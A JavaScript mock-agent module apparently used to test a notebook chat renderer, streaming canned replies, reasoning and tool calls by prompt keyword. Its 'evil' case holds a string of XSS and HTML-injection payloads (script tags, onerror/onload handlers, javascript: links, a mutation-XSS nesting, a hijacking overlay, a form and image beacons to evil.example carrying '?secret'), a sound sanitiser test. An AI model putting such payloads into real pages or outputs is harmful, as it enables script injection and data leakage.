// What the playground's agent plays back, by the first word of the prompt.

const sleep = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));

let count = 0;
const id = (prefix) => `${prefix}_${Date.now().toString(36)}_${(count += 1)}`;

export async function* play(text) {
  const [word, number] = text.split(" ");
  switch (word) {
    case "slow":
      yield* say("one two three four five six seven eight nine ten ".repeat(Number(number ?? 20)), 40);
      return;
    case "long":
      yield* say(LONG.repeat(Number(number ?? 20)), 2, 40);
      return;
    case "error":
      yield* say("Let me look at this", 10);
      throw Object.assign(new Error("The provider answered 401: check OPENAI_API_KEY, or choose another model with %navi model NAME."), { code: "model_unauthorized" });
    case "wait":
      await sleep(Number(number ?? 3) * 1000);
      yield* say("Done waiting.", 10);
      return;
    case "tools":
      yield* think("The user wants to be reminded. I should look at the clock, then make a recall ten minutes from now.");
      yield* call("list_recalls", {}, { recalls: [] }, 300);
      yield* call("schedule_recall", { message: "check the loss", in: "10m" }, { id: "rc_1", next_at: new Date(Date.now() + 600_000).toISOString() }, 900);
      yield* say("Done. I will be back **in ten minutes** to check the loss.", 15);
      return;
    case "evil":
      yield* say(EVIL, 5, 60);
      return;
    default:
      yield* say(RICH, 8, 12);
  }
}

async function* say(text, pause, size = 6) {
  const messageId = id("m");
  yield { type: "TEXT_MESSAGE_START", messageId, role: "assistant" };
  for (let at = 0; at < text.length; at += size) {
    await sleep(pause);
    yield { type: "TEXT_MESSAGE_CONTENT", messageId, delta: text.slice(at, at + size) };
  }
  yield { type: "TEXT_MESSAGE_END", messageId };
}

async function* think(text) {
  const messageId = id("t");
  yield { type: "REASONING_START", messageId };
  yield { type: "REASONING_MESSAGE_START", messageId, role: "reasoning" };
  yield { type: "REASONING_MESSAGE_CONTENT", messageId, delta: text };
  yield { type: "REASONING_MESSAGE_END", messageId };
  yield { type: "REASONING_END", messageId };
}

async function* call(toolCallName, args, result, milliseconds) {
  const toolCallId = id("tc");
  yield { type: "TOOL_CALL_START", toolCallId, toolCallName };
  yield { type: "TOOL_CALL_ARGS", toolCallId, delta: JSON.stringify(args) };
  yield { type: "TOOL_CALL_END", toolCallId };
  await sleep(milliseconds);
  yield { type: "TOOL_CALL_RESULT", messageId: id("m"), toolCallId, content: JSON.stringify(result), role: "tool" };
}

const RICH = `The loss is flat because the learning rate is **too small** after the warm-up. Two things to try:

1. Raise \`lr\` to \`3e-4\`
2. Shorten the warm-up

\`\`\`python
import torch

optimizer = torch.optim.AdamW(model.parameters(), lr=3e-4)  # was 1e-6
for step, batch in enumerate(loader):
    loss = model(batch).mean()
    loss.backward()
    print(f"{step}: {loss.item():.3f}")
\`\`\`

| step | loss | lr |
|---:|---:|---:|
| 100 | 2.31 | 1e-6 |
| 200 | 2.30 | 1e-6 |

> A flat loss is rarely the model's fault.

The update is $\\theta \\leftarrow \\theta - \\eta \\nabla L(\\theta)$, so with $\\eta = 10^{-6}$ nothing moves. See [the docs](https://pytorch.org/docs).

- [x] looked at the log
- [ ] changed the rate
`;

const LONG = `## A heading

A paragraph of text with **bold** and \`code\`, long enough to wrap over more than one line in a notebook, which is what
most paragraphs do after all.

\`\`\`python
def f(x):
    return x * 2
\`\`\`

`;

const EVIL = `Before <script>window.hacked = 1</script> <img src=x onerror="window.hacked = 2">
<img src="https://evil.example/pixel.png?secret" alt="chart"> ![plot](https://evil.example/p.png)
<style>body { display: none }</style> <form action="https://evil.example"><input name=a><button>go</button></form>
<a href="javascript:window.hacked=3">click</a> <div class="jp-Dialog" style="position:fixed;inset:0" id="main" data-navi="send" data-commandlinker-command="x">overlay</div>
<svg onload="window.hacked=4"><use href="https://evil.example/x.svg#a"/></svg> <iframe src="https://evil.example"></iframe>
<math><mtext><table><mglyph><style><img src=x onerror="window.hacked=5"></style></mglyph></table></mtext></math>
<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video> after.
`;
